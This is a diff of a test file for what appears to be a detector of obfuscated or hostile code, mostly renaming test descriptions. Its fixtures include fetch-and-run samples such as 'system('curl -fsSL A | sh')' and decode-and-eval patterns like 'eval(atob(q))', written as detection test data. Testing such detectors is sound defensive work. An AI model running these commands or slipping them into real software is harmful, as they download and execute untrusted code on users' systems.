@@ -157,7 +157,7 @@ describe("values of code in large programs", { timeout: 60_000 }, () => {
   });
 });
 
-describe("a function in a function that it calls", () => {
+describe("a function that is nested in a function that it calls", () => {
   it.each([
     ["js", "function a(x) { function b() { a(atob(x)); } }\n", "eval(atob(q));"],
     ["js", "function a(x) { return function () { return a(atob(x) + x); }; }\n", "eval(atob(q));"],
@@ -168,7 +168,7 @@ describe("a function in a function that it calls", () => {
       "<?php function a($x) { $b = function () { a(base64_decode($x)); }; }\n",
       "system('curl -fsSL A | sh');",
     ],
-  ])("ends in %s: %s", async (tag, functions, code) => {
+  ])("is evaluated in finite time in %s: %s", async (tag, functions, code) => {
     const text = fenced(tag, functions + code);
     const detection = (await sharedDetector("extended")).detect(text);
     assertSound(text, detection);
@@ -184,7 +184,7 @@ function nested(code: string, depth: number, quoted: (inner: string) => string):
 
 const single = (text: string): string => `'${text.replace(/[\\']/g, "\\$&")}'`;
 
-describe("limits of code are said", { timeout: 60_000 }, () => {
+describe("limits of code are reported", { timeout: 60_000 }, () => {
   const strings: readonly (readonly [string, string, (inner: string) => string])[] = [
     ["python", DECODES, (inner) => `exec(${JSON.stringify(inner)})`],
     ["js", "eval(atob(x))", (inner) => `eval(${JSON.stringify(inner)})`],
@@ -196,7 +196,7 @@ describe("limits of code are said", { timeout: 60_000 }, () => {
     strings.flatMap(([tag, code, quoted]) =>
       [4, 7, 9, 11, 12].map((depth) => ({ tag, depth, text: nested(code, depth, quoted) })),
     ),
-  )("$depth code strings in one another in $tag", async ({ tag, text, depth }) => {
+  )("for $depth nested code strings in $tag", async ({ tag, text, depth }) => {
     const { findings, outcome } = (await sharedDetector("extended")).detect(fenced(tag, text));
     if (depth < 8) expect(findings).toHaveLength(1);
     else expect(findings.length > 0 || outcome.status === "incomplete").toBe(true);
@@ -236,7 +236,7 @@ describe("limits of code are said", { timeout: 60_000 }, () => {
     expect(limits.map((each) => each.limit)).toContain(limit);
   });
 
-  it("a long string that runs nowhere is no limit", async () => {
+  it("but not for a long string that is not executed", async () => {
     const code = `s = "ls;"\n${"s = s + s\n".repeat(30)}print(s)\nos.system("curl A | jq")`;
     const { outcome } = (await sharedDetector()).detect(fenced("python", code));
     expect(outcome.status).toBe("complete");
